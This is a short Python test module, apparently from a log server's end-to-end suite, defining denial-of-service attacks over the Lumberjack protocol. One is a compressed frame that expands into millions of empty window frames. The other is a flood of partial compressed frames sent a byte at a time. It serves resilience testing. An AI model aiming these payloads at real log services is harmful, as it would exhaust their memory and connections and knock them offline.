"""Attacks by Lumberjack's compressed frames."""

import struct
import zlib

from e2e.attacks.scene import crowd, drip

EMPTY_WINDOWS = 3_900_000


def empty_windows(scene):
    """A frame of some KB that unpacks to millions of windows without an event, each of which is to be answered."""
    packed = zlib.compress((b"2W" + struct.pack(">I", 0)) * EMPTY_WINDOWS, 9)
    with crowd(scene.port, scene.many(20, 40), b"2C" + struct.pack(">I", len(packed)) + packed, scene.until):
        scene.rest()


def begun_frames(scene):
    """Compressed frames that begin, 14 bytes each, and go on by a byte now and then."""
    start = zlib.compress(b"2W\0\0\0\1" * 1000)[:8]
    with crowd(scene.port, scene.many(300, 4000), b"2C" + struct.pack(">I", 60_000) + start, scene.until) as begun:
        drip(begun, b"\0", 2.0, scene.until)
